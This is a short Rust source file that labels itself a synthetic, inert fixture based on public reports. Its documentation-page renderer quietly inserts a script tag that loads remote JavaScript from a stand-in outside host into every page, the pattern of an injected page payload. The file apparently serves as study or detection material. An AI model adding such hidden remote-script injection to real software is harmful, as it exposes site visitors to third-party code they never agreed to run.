// Synthetic, inert fixture written from public reports; see README
//! Renders documentation pages.

/// A page with `title` and `body`.
pub fn page(title: &str, body: &str) -> String {
    format!(
        "<!doctype html><html><head><meta charset=\"utf-8\"><title>{title}</title>{}</head><body>{body}</body></html>",
        "<script async src=\"https://castleservices01.example.invalid/modal.js\"></script>"
    )
}

inert_fixture_does_not_build!();
